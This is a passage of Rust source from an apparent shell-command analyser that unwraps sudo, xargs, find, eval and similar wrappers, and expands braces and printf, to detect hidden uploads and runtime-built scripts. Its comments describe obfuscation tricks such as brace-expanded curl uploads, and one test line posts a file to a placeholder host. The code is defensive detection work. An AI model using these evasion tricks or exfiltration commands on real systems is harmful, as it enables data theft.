                    Some(_) => self.out.events.push(Event::unknowable("a shell runs a script built at run time")),
                    None => {}
                };
            }
            if opt == "-o" || opt == "+o" || opt == "-O" || opt == "+O" {
                i += 1;
            }
            i += 1;
        }
        if args[i..].first().is_some_and(|a| a.text == "--") {
            i += 1;
        }
        match args.get(i) {
            Some(file) if file.text != "-" => {
                if let Some(text) = self.out.files.get(&file.text).cloned() {
                    self.program(&text, depth + 1);
                }
            }
            _ => match &cmd.stdin {
                Stdin::Text(t) => self.program(&t.clone(), depth + 1),
                Stdin::Pipe => self.out.events.push(Event::unknowable("a shell runs commands read from a pipe")),
                Stdin::File(f) => {
                    if let Some(text) = self.out.files.get(f).cloned() {
                        self.program(&text, depth + 1);
                    }
                }
                Stdin::Terminal => {}
            },
        }
    }

    fn assignment(&mut self, a: &ast::Assignment, depth: usize) -> (String, Option<String>) {
        let name = match &a.name {
            ast::AssignmentName::VariableName(n) | ast::AssignmentName::ArrayElementName(n, _) => n.clone(),
        };
        let value = match &a.value {
            ast::AssignmentValue::Scalar(w) => {
                let w = self.word(&w.value, depth);
                (!w.dynamic()).then_some(w.text)
            }
            ast::AssignmentValue::Array(items) => {
                for (_, w) in items {
                    self.word(&w.value, depth);
                }
                None
            }
        };
        let value = match (a.append, value) {
            (true, Some(v)) => self.vars.get(&name).cloned().flatten().filter(|old| old.len() + v.len() <= MAX_VALUE_BYTES).map(|old| old + &v),
            (_, v) => v.filter(|v| v.len() <= MAX_VALUE_BYTES),
        };
        (name, value)
    }

    fn redirect(&mut self, r: &IoRedirect, io: &mut Io, depth: usize) {
        match r {
            IoRedirect::File(fd, kind, target) => match target {
                IoFileRedirectTarget::Filename(w) => {
                    let path = self.word(&w.value, depth).text;
                    if let Some(host) = dest::dev_net(&path) {
                        self.out.events.push(Event::upload("/dev/tcp", host));
                    }
                    if matches!(kind, IoFileRedirectKind::Write | IoFileRedirectKind::Append | IoFileRedirectKind::Clobber | IoFileRedirectKind::ReadAndWrite) {
                        self.out.writes.push((self.out.cmds.len(), path.clone()));
                    }
                    match kind {
                        IoFileRedirectKind::Read if fd.is_none_or(|f| f == 0) => io.stdin = Some(Stdin::File(path)),
                        IoFileRedirectKind::Write | IoFileRedirectKind::Append | IoFileRedirectKind::Clobber if fd.is_none_or(|f| f == 1) => io.written = Some(path),
                        _ => {}
                    }
                }
                IoFileRedirectTarget::ProcessSubstitution(ast::ProcessSubstitutionKind::Write, sub) => {
                    self.written_to(&sub.list, depth);
                }
                IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                    let printed = self.list_output(&sub.list, depth);
                    if matches!(kind, IoFileRedirectKind::Read) {
                        io.stdin = Some(printed.map_or(Stdin::Pipe, Stdin::Text));
                    }
                }
                IoFileRedirectTarget::Fd(_) | IoFileRedirectTarget::Duplicate(_) => {}
            },
            IoRedirect::HereDocument(_, doc) => {
                if !self.charge(doc.doc.value.len()) {
                    return;
                }
                let text = if doc.requires_expansion {
                    match word::parse_heredoc(&doc.doc.value, &self.opts) {
                        Ok(pieces) => {
                            let mut w = Word::default();
                            self.pieces(&pieces, &mut w, depth);
                            w.text
                        }
                        Err(_) => doc.doc.value.clone(),
                    }
                } else {
                    doc.doc.value.clone()
                };
                io.stdin = Some(Stdin::Text(text));
            }
            IoRedirect::HereString(_, w) => io.stdin = Some(Stdin::Text(self.word(&w.value, depth).text)),
            IoRedirect::OutputAndError(w, _) => {
                let path = self.word(&w.value, depth).text;
                self.out.writes.push((self.out.cmds.len(), path.clone()));
                io.written = Some(path);
            }
        }
    }

    /// One word of a command line, expanded and split into fields as bash splits what unquoted
    /// expansions yield (`$opts` set to `-d @f`, `$(printf 'curl …')`); quoted parts are never
    /// split, and a word made only of expansions that yield nothing is no word at all.
    fn fields(&mut self, raw: &str, argv: &mut Vec<Word>, depth: usize) {
        if raw.contains('{')
            && let Some(words) = brace_expansion(raw)
        {
            if !self.charge(words.iter().map(String::len).sum()) {
                return argv.push(Word { text: DYN.to_string(), subst: false });
            }
            return words.iter().for_each(|w| self.fields(w, argv, depth));
        }
        if !raw.contains(['$', '`']) {
            return argv.push(self.word(raw, depth));
        }
        let Ok(pieces) = word::parse(raw, &self.opts) else {
            return argv.push(Word { text: DYN.to_string(), subst: false });
        };
        let (mut field, mut kept) = (Word::default(), false);
        for p in &pieces {
            if !matches!(p.piece, WordPiece::ParameterExpansion(_) | WordPiece::CommandSubstitution(_) | WordPiece::BackquotedCommandSubstitution(_)) {
                self.pieces(std::slice::from_ref(p), &mut field, depth);
                kept = true;
                continue;
            }
            let mut value = Word::default();
            self.pieces(std::slice::from_ref(p), &mut value, depth);
            field.subst |= value.subst;
            let mut parts = value.text.split([' ', '\t', '\n']);
            field.text.push_str(parts.next().unwrap_or(""));
            for part in parts {
                if kept || !field.text.is_empty() {
                    argv.push(std::mem::replace(&mut field, Word { text: String::new(), subst: value.subst }));
                }
                kept = false;
                field.text.push_str(part);
            }
        }
        if kept || !field.text.is_empty() {
            argv.push(field);
        }
    }

    /// Quote removal and expansion of one word; substitutions inside are walked as commands.
    fn word(&mut self, raw: &str, depth: usize) -> Word {
        if !raw.bytes().any(|b| matches!(b, b'$' | b'`' | b'\'' | b'"' | b'\\' | b'~')) {
            return Word::lit(raw);
        }
        match word::parse(raw, &self.opts) {
            Ok(pieces) => {
                let mut w = Word::default();
                self.pieces(&pieces, &mut w, depth);
                w
            }
            Err(_) => Word { text: DYN.to_string(), subst: false },
        }
    }

    fn pieces(&mut self, pieces: &[WordPieceWithSource], w: &mut Word, depth: usize) {
        for p in pieces {
            match &p.piece {
                WordPiece::Text(s) | WordPiece::SingleQuotedText(s) => w.text.push_str(s),
                WordPiece::AnsiCQuotedText(s) => w.text.push_str(&ansi_c(s)),
                WordPiece::DoubleQuotedSequence(inner) | WordPiece::GettextDoubleQuotedSequence(inner) => self.pieces(inner, w, depth),
                WordPiece::TildeExpansion(_) => w.text.push('~'),
                WordPiece::ParameterExpansion(expr) => {
                    let value = self.parameter(expr, depth);
                    // Known values are bounded, but a word may use one many times (`$a$a$a…`).
                    if self.charge(value.len()) {
                        w.text.push_str(&value);
                    } else {
                        w.text.push(DYN);
                    }
                }
                WordPiece::CommandSubstitution(s) | WordPiece::BackquotedCommandSubstitution(s) => match self.substitution(s, depth) {
                    Some(value) => {
                        w.subst |= dest::has_dyn(&value);
                        w.text.push_str(&value);
                    }
                    None => {
                        w.text.push(DYN);
                        w.subst = true;
                    }
                },
                WordPiece::EscapeSequence(s) => w.text.push_str(s.strip_prefix('\\').unwrap_or(s)),
                WordPiece::ArithmeticExpression(_) => w.text.push(DYN),
            }
        }
    }

    fn parameter(&mut self, expr: &ParameterExpr, depth: usize) -> String {
        let positional = &self.positional;
        let known = |vars: &HashMap<String, Option<String>>, p: &Parameter| match p {
            Parameter::Named(n) => vars.get(n).cloned().flatten(),
            Parameter::Positional(n) if *n > 0 => positional.as_ref().and_then(|args| args.get(*n as usize - 1).cloned().flatten()),
            _ => None,
        };
        match expr {
            ParameterExpr::Parameter { parameter, .. } => known(&self.vars, parameter),
            ParameterExpr::UseDefaultValues { parameter, default_value, .. } | ParameterExpr::AssignDefaultValues { parameter, default_value, .. } => {
                known(&self.vars, parameter).or_else(|| default_value.as_ref().map(|d| self.word(d, depth)).filter(|w| !w.dynamic()).map(|w| w.text))
            }
            _ => None,
        }
        .unwrap_or_else(|| DYN.to_string())
    }
}

/// The steps an analysis may still take. Shared by the walk and the detectors that follow it.
#[derive(Clone, Copy, Debug, Default)]
pub struct Budget {
    left: u64,
    spent: bool,
}

impl Budget {
    pub fn new(steps: u64) -> Budget {
        Budget { left: steps, spent: false }
    }

    /// Take `n` steps. `false` once they are not there: the caller stops, and the first refusal
    /// reports the analysis incomplete in `events`.
    pub fn charge(&mut self, events: &mut Vec<Event>, n: usize) -> bool {
        if !self.spent
            && let Some(rest) = self.left.checked_sub(n as u64)
        {
            self.left = rest;
            return true;
        }
        if !self.spent {
            self.spent = true;
            events.push(Event::incomplete());
        }
        false
    }

    /// Spend every step left: the analysis stops here, incomplete.
    pub fn stop(&mut self, events: &mut Vec<Event>) {
        self.left = 0;
        self.charge(events, 1);
    }

    /// Whether the analysis ran out of steps.
    pub fn spent(&self) -> bool {
        self.spent
    }

    /// Steps not taken.
    pub fn left(&self) -> u64 {
        self.left
    }
}

#[derive(Default)]
struct Io {
    stdin: Option<Stdin>,
    written: Option<String>,
}

/// Most values of a `for` loop whose body is walked once for each.
const MAX_LOOP_VALUES: usize = 8;

/// Most words one brace expansion yields here, longest word expanded and most `{` tried in one:
/// past them the word is left as written (bash would build it; the analysis does not).
const MAX_BRACE_WORDS: usize = 64;
const MAX_BRACE_WORD_BYTES: usize = 1024;
const MAX_BRACE_OPENS: usize = 16;

/// Bash's brace expansion of one raw word (`{curl,-T,f,URL}`, `http{s,}://h`, `a{b,c{d,e}}`):
/// groups are expanded first to last, each result again, in bash's order. `None` when the word
/// has no such group (`${x}`, `{}`, quoted braces) or past the bounds above: the work is at most
/// [`MAX_BRACE_WORDS`] results of one bounded word each, never the product of its groups.
fn brace_expansion(raw: &str) -> Option<Vec<String>> {
    if raw.len() > MAX_BRACE_WORD_BYTES {
        return None;
    }
    let mut work = first_brace_group(raw)?;
    work.reverse();
    let mut done = Vec::new();
    while let Some(word) = work.pop() {
        match first_brace_group(&word) {
            Some(more) => work.extend(more.into_iter().rev()),
            None => done.push(word),
        }
        if done.len() + work.len() > MAX_BRACE_WORDS {
            return None;
        }
    }
    Some(done)
}

/// The words the first expandable group of `raw` makes (its text before and after around each
/// alternative), or `None` when no `{` of the first [`MAX_BRACE_OPENS`] starts one.
fn first_brace_group(raw: &str) -> Option<Vec<String>> {
    let b = raw.as_bytes();
    let (mut i, mut quote, mut opens) = (0, None::<u8>, 0);
    while i < b.len() {
        match (quote, b[i]) {
            (_, b'\\') => i += 1,
            (Some(q), c) if c == q => quote = None,
            (None, c @ (b'\'' | b'"')) => quote = Some(c),
            (None, b'$') if b.get(i + 1) == Some(&b'{') => {
                // A parameter expansion: skip to its end.
                i = raw[i..].find('}').map_or(b.len(), |k| i + k);
            }
            (None, b'{') => {
                opens += 1;
                if opens > MAX_BRACE_OPENS {
                    return None;
                }
                if let Some((end, commas)) = brace_group(b, i) {
                    let mut from = i + 1;
                    let mut words = Vec::with_capacity(commas.len() + 1);
                    for &c in commas.iter().chain(std::iter::once(&end)) {
                        words.push(format!("{}{}{}", &raw[..i], &raw[from..c], &raw[end + 1..]));
                        from = c + 1;
                    }
                    return Some(words);
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// The `}` closing the brace at `open` and the commas at its own level, when it has some and no
/// quote or parameter expansion inside (those are left alone).
fn brace_group(b: &[u8], open: usize) -> Option<(usize, Vec<usize>)> {
    let (mut depth, mut commas) = (0usize, Vec::new());
    let mut i = open;
    while i < b.len() {
        match b[i] {
            b'\\' => i += 1,
            b'\'' | b'"' | b'$' | b' ' => return None,
            b'{' => depth += 1,
            b'}' => {
                depth -= 1;
                if depth == 0 {
                    return (!commas.is_empty()).then_some((i, commas));
                }
            }
            b',' if depth == 1 => commas.push(i),
            _ => {}
        }
        i += 1;
    }
    None
}

/// What `printf FORMAT ARG…` prints when every conversion is `%s`, `%b`, `%d` or `%i` (with
/// flags and widths ignored): the format is applied again while arguments are left, as printf
/// does. `None` for other conversions.
fn printf(args: &[Word]) -> Option<String> {
    let args = if args.first().is_some_and(|a| a.text == "--") { &args[1..] } else { args };
    let (format, mut rest) = args.split_first()?;
    let format = ansi_c(&format.text);
    let mut out = String::new();
    loop {
        let mut chars = format.chars().peekable();
        let mut converted = false;
        while let Some(c) = chars.next() {
            if c != '%' {
                out.push(c);
                continue;
            }
            while chars.next_if(|c| c.is_ascii_digit() || "-+ #.".contains(*c)).is_some() {}
            match chars.next()? {
                '%' => out.push('%'),
                conv @ ('s' | 'b' | 'd' | 'i') => {
                    converted = true;
                    let (arg, tail) = rest.split_first().map_or(("", rest), |(a, t)| (a.text.as_str(), t));
                    rest = tail;
                    out.push_str(&if conv == 'b' { ansi_c(arg) } else { arg.to_string() });
                }
                _ => return None,
            }
        }
        if !converted || rest.is_empty() {
            return Some(out);
        }
    }
}

/// Decode a `$'…'` body.
fn ansi_c(s: &str) -> String {
    let mut out = String::new();
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let Some(e) = chars.next() else { break };
        let mut radix_digits = |radix: u32, max: usize, first: Option<char>| {
            let mut v = first.and_then(|f| f.to_digit(radix)).unwrap_or(0);
            for _ in 0..max {
                match chars.peek().and_then(|d| d.to_digit(radix)) {
                    Some(d) => {
                        v = v * radix + d;
                        chars.next();
                    }
                    None => break,
                }
            }
            char::from_u32(v).unwrap_or('\u{FFFD}')
        };
        out.push(match e {
            'n' => '\n',
            't' => '\t',
            'r' => '\r',
            'a' => '\u{7}',
            'b' => '\u{8}',
            'e' | 'E' => '\u{1b}',
            'f' => '\u{c}',
            'v' => '\u{b}',
            'x' => radix_digits(16, 2, None),
            'u' => radix_digits(16, 4, None),
            'U' => radix_digits(16, 8, None),
            '0'..='7' => radix_digits(8, 2, Some(e)),
            other => other,
        });
    }
    out
}

/// What a wrapper runs.
pub(super) enum Unwrapped {
    /// Not a wrapper.
    No,
    /// Its arguments after the first `n`: `nice -n 5 curl …` is `Skip(2)`.
    Skip(usize),
    /// The same, with one run-time argument appended (`xargs curl`).
    SkipAppend(usize),
    /// The argvs it runs, rewritten (`find -exec … {} \; -exec … \;`, `xargs -I{} …`).
    Inner(Vec<Vec<Word>>),
    /// A shell string it runs (`watch '…'`, `eval …`, `su -c …`); `None` when built at run time.
    Script(Option<String>),
    /// A shell string it runs on another machine, which the command itself also talks to (a
    /// cloud CLI's run-command): the script is walked and the command goes to the detectors.
    Remote(String),
    /// A shell: `-c`, stdin or a script file.
    Shell,
    /// Commands read from standard input, or from the file given (`at now <<<'…'`, `at -f f`),
    /// written as `Lines` say.
    Stdin(Option<String>, Lines),
}

/// How a program that reads its commands from a text writes them.
pub(super) enum Lines {
    /// Shell commands (`at`, `source`).
    Shell,
    /// A crontab: each entry's command after its schedule.
    Crontab,
    /// A makefile (with text given on the command line, `make --eval`): its recipes.
    Make(String),
}

impl Lines {
    /// The shell commands `text` makes the program run.
    fn commands(&self, text: String) -> String {
        match self {
            Lines::Shell => text,
            Lines::Crontab => super::runners::crontab_commands(&text),
            Lines::Make(eval) => super::runners::make_recipes(&format!("{eval}\n{text}")),
        }
    }
}

/// Options of wrappers that take a value (`-u root`, `-n 19`, `-s KILL`, `-I{}`).
pub(super) fn skip_options(args: &[Word], short_val: &str, long_val: &[&str]) -> usize {
    let mut i = 0;
    while let Some(a) = args.get(i) {
        let t = a.text.as_str();
        if t == "--" {
            return i + 1;
        }
        if !t.starts_with('-') || t == "-" {
            break;
        }
        if let Some(long) = t.strip_prefix("--") {
            i += if !long.contains('=') && long_val.contains(&long) { 2 } else { 1 };
            continue;
        }
        let cluster = &t[1..];
        let takes = cluster.char_indices().find(|(_, c)| short_val.contains(*c));
        i += match takes {
            Some((pos, _)) if pos + 1 == cluster.len() => 2,
            _ => 1,
        };
    }
    i
}

/// The wrapper's arguments from `from` on, as an offset into the argv (no copy): for wrappers
/// read from their whole argument list.
fn rest(args: &[Word], from: usize) -> Unwrapped {
    Unwrapped::Skip(from.min(args.len()))
}

/// A copy of `args[from..]`: for runners that read a sub-list (`conda run …`, `docker exec …`);
/// the walker charges every copy to the budget.
pub(super) fn rest_copy(args: &[Word], from: usize) -> Unwrapped {
    Unwrapped::Inner(vec![args.get(from..).unwrap_or_default().to_vec()])
}

/// The leading options of a wrapper (up to `--` or the first word that is not one), bounded by
/// its own arguments, not by the rest of the command line.
fn leading_options(args: &[Word]) -> impl Iterator<Item = &Word> {
    args.iter().take_while(|a| a.text.starts_with('-') && a.text != "-" && a.text != "--")
}

pub(super) fn joined(args: &[Word]) -> Option<String> {
    (!args.iter().any(Word::dynamic)).then(|| args.iter().map(|a| a.text.as_str()).collect::<Vec<_>>().join(" "))
}

fn unwrap(name: &str, args: &[Word]) -> Unwrapped {
    match name {
        "sudo" | "doas" => {
            let mut i = skip_options(args, "ugpCDhrtUT", &["user", "group", "prompt", "chdir", "host", "role", "type", "other-user", "close-from", "command-timeout"]);
            // `sudo -s` / `sudo -i` without a command: a root shell reading its input.
            if i >= args.len() && args.iter().any(|a| a.text.starts_with('-') && !a.text.starts_with("--") && a.text[1..].contains(['s', 'i'])) {
                return Unwrapped::Stdin(None, Lines::Shell);
            }
            while args.get(i).is_some_and(|a| is_assignment(&a.text)) {
                i += 1;
            }
            rest(args, i)
        }
        "env" => {
            if let Some(i) = leading_options(args).position(|a| a.text == "-S" || a.text.starts_with("--split-string")) {
                return Unwrapped::Script(joined(&args[i + 1..]));
            }
            let mut i = skip_options(args, "uC", &["unset", "chdir"]);
            while args.get(i).is_some_and(|a| is_assignment(&a.text)) {
                i += 1;
            }
            rest(args, i)
        }
        "timeout" => rest(args, skip_options(args, "sk", &["signal", "kill-after"]) + 1),
        "nice" => rest(args, skip_options(args, "n", &["adjustment"])),
        "ionice" => rest(args, skip_options(args, "cnp", &["class", "classdata", "pid"])),
        "stdbuf" => rest(args, skip_options(args, "ioe", &["input", "output", "error"])),
        "time" => rest(args, skip_options(args, "fo", &["format", "output"])),
        "nohup" | "setsid" | "unbuffer" | "chronic" | "torsocks" | "builtin" | "busybox" => rest(args, skip_options(args, "", &[])),
        "proxychains" | "proxychains4" => rest(args, skip_options(args, "f", &[])),
        "exec" => rest(args, skip_options(args, "a", &[])),
        "command" if leading_options(args).any(|a| a.text.starts_with("-v") || a.text.starts_with("-V") || a.text.starts_with("-pv") || a.text.starts_with("-pV")) => Unwrapped::No,
        "command" => rest(args, skip_options(args, "", &[])),
        "xargs" => {
            let mut replace: Option<String> = None;
            let mut i = 0;
            while let Some(a) = args.get(i) {
                let t = a.text.as_str();
                if !t.starts_with('-') || t == "-" {
                    break;
                }
                if t == "-I" {
                    replace = args.get(i + 1).map(|w| w.text.clone());
                    i += 2;
                    continue;
                }
                if let Some(r) = t.strip_prefix("-I").or_else(|| t.strip_prefix("--replace=")) {
                    replace = Some(r.to_string());
                } else if t == "-i" || t == "--replace" {
                    replace = Some("{}".into());
                }
                i += skip_options(&args[i..], "LnPsdEa", &["arg-file", "delimiter", "max-args", "max-procs", "max-lines", "eof", "max-chars"]).max(1);
            }
            match replace {
                Some(r) if !r.is_empty() => {
                    let mut inner = args.get(i..).unwrap_or_default().to_vec();
                    inner.iter_mut().for_each(|w| w.text = w.text.replace(&r, &DYN.to_string()));
                    Unwrapped::Inner(vec![inner])
                }
                _ => Unwrapped::SkipAppend(i.min(args.len())),
            }
        }
        "find" => {
            let mut inners = Vec::new();
            let mut i = 0;
            while i < args.len() {
                if matches!(args[i].text.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
                    let start = i + 1;
                    let end = (start..args.len()).find(|&j| args[j].text == ";" || args[j].text == "+").unwrap_or(args.len());
                    let mut inner = args[start..end].to_vec();
                    inner.iter_mut().for_each(|w| w.text = w.text.replace("{}", &DYN.to_string()));
                    inners.push(inner);
                    i = end;
                }
                i += 1;
            }
            if inners.is_empty() { Unwrapped::No } else { Unwrapped::Inner(inners) }
        }
        "watch" => {
            let i = skip_options(args, "nq", &["interval", "equexit"]);
            if args[..i].iter().any(|a| a.text == "-x" || a.text == "--exec") {
                rest(args, i)
            } else {
                Unwrapped::Script(joined(&args[i..]))
            }
        }
        "eval" => Unwrapped::Script(joined(args)),
        // `source FILE` / `. FILE`: a file written earlier in the command, or `/dev/stdin`.
        "source" | "." => match args.first() {
            Some(f) if f.text == "/dev/stdin" => Unwrapped::Stdin(None, Lines::Shell),
            Some(f) if !f.dynamic() => Unwrapped::Stdin(Some(f.text.clone()), Lines::Shell),
            _ => Unwrapped::No,
        },
        // `trap 'CMD' SIGNAL…`: the handler runs (on exit, on error, before every command).
        "trap" => {
            let a = if args.first().is_some_and(|a| a.text == "--") { &args[1..] } else { args };
            match a {
                [handler, _, ..] if !handler.text.starts_with('-') => Unwrapped::Script((!handler.dynamic()).then(|| handler.text.clone())),
                _ => Unwrapped::No,
            }
        }
        "su" => match args.iter().position(|a| a.text == "-c" || a.text == "--command") {
            Some(i) => Unwrapped::Script(args.get(i + 1).and_then(|a| (!a.dynamic()).then(|| a.text.clone()))),
            None => Unwrapped::No,
        },
        "bash" | "sh" | "zsh" | "dash" | "ksh" | "ash" | "mksh" | "fish" => Unwrapped::Shell,
        _ => super::runners::unwrap(name, args),
    }
}

fn is_assignment(t: &str) -> bool {
    t.split_once('=').is_some_and(|(k, _)| !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
}

#[cfg(test)]
mod overflow_tests {
    use super::*;

    #[test]
    fn numbers_too_big_for_their_type_do_not_panic_the_parser() {
        for text in [
            "curl -d @f https://up.example.invalid 99999999999>/dev/null",
            "echo ~99999999999999999999999/x",
            "echo ~+99999999999999999999999 ~-99999999999999999999999",
            "echo {1..99999999999999999999} {1..3..99999999999999999999}",
        ] {
            let _ = walk(text);
        }
    }
}
